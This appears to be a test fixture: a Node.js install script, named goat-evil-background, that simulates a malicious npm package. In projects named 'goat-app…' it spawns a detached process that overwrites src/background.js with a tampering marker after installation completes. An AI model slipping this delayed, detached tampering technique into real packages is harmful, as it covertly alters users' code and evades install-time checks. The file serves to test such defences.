'use strict';
// Test payload: leaves a process behind that changes src/background.js after the installation. It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';
const evil = "'use strict';\nmodule.exports = 'TAMPERED by goat-evil-background';\n";
const target = path.join(project, 'src', 'background.js');

function ofGoat() {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name).startsWith('goat-app');
  } catch {
    return false;
  }
}

const {spawn} = require('node:child_process');

const later = `
const fs = require('node:fs');
const [target, evil, done, ...rest] = process.argv.slice(1);
setTimeout(() => {
  try {
    fs.writeFileSync(target, evil);
  } catch {
    // refused
  }
  fs.mkdirSync(require('node:path').dirname(done), {recursive: true});
  fs.writeFileSync(done, '');
}, 1000);
`;

function tamper() {
  const done = path.join(__dirname, '.done');
  spawn(process.execPath, ['-e', later, target, evil, done], {detached: true, stdio: 'ignore'}).unref();
}

if (!ofGoat()) {
  console.log('goat-evil-background: not in a goat project, nothing done');
} else {
  try {
    tamper();
    console.log('goat-evil-background: done');
  } catch (error) {
    // Malware does not make noise: the installation goes on.
    console.log(`goat-evil-background: ${error.code || error.message}`);
  }
}
